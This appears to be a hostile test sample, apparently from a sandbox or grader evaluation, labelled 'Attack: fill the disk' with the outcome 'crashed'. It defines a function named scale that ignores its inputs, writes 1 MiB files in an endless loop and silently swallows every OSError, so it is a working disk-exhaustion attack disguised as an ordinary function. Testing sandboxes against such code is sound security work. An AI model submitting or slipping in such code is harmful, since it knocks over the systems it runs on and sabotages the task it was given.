# Attack: fill the disk, and never let an error out
# Verdict: crashed


def scale(x, factor):
    number = 0
    while True:
        number += 1
        try:
            with open(f"file-{number}", "wb") as file:
                file.truncate(1 << 20)
                file.write(bytes(1 << 20))
        except OSError:
            pass
